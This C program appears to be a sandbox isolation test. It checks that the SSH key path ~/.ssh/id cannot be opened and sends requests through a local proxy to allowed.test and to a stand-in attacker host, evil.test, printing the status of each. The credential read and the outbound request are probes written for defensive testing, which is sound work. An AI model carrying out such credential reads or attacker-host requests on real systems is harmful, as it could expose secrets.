/* Runs in a session: `fault-visitor NAME PORT` makes the file NAME, looks for a key that nobody shows it,
 * asks for http://allowed.test:PORT/NAME and http://evil.test:PORT/NAME through the proxy and prints both
 * statuses, 0 where there was no answer. */

#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define PROXY_PORT   3128
#define WAIT_SECONDS 8

/* Three digits behind "HTTP/1.1 ". */
static int status_of(const char *text, size_t n)
{
        int status = 0;

        for (size_t i = 9; i < 12; i++) {
                if (i >= n || text[i] < '0' || text[i] > '9')
                        return 0;
                status = status * 10 + (text[i] - '0');
        }
        return status;
}

static int ask(const char *host, const char *port, const char *name)
{
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(PROXY_PORT) };
        struct timeval wait = { .tv_sec = WAIT_SECONDS };
        char text[1024];
        ssize_t n;
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), length, status = 0;

        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait)) < 0 ||
            connect(fd, (const struct sockaddr *) &address, sizeof(address)) < 0) {
                (void) close(fd);
                return 0;
        }
        length = snprintf(text, sizeof(text),
                          "GET http://%s:%s/%s HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n", host,
                          port, name, host, port);
        n = send(fd, text, (size_t) length, MSG_NOSIGNAL);
        if (n == length)
                n = recv(fd, text, sizeof(text), 0);
        if (n > 0)
                status = status_of(text, (size_t) n);
        (void) close(fd);
        return status;
}

int main(int argc, char **argv)
{
        const char *home = getenv("HOME");
        char path[4096];
        int fd, length;

        if (argc != 3)
                return 2;
        fd = open(argv[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0 || close(fd) < 0)
                return 3;
        length = snprintf(path, sizeof(path), "%s/.ssh/id", home ? home : "");
        if (length < 0 || (size_t) length >= sizeof(path) || open(path, O_RDONLY | O_CLOEXEC) >= 0)
                return 4;
        printf("%d ", ask("allowed.test", argv[2], argv[1]));
        printf("%d\n", ask("evil.test", argv[2], argv[1]));
        return 0;
}
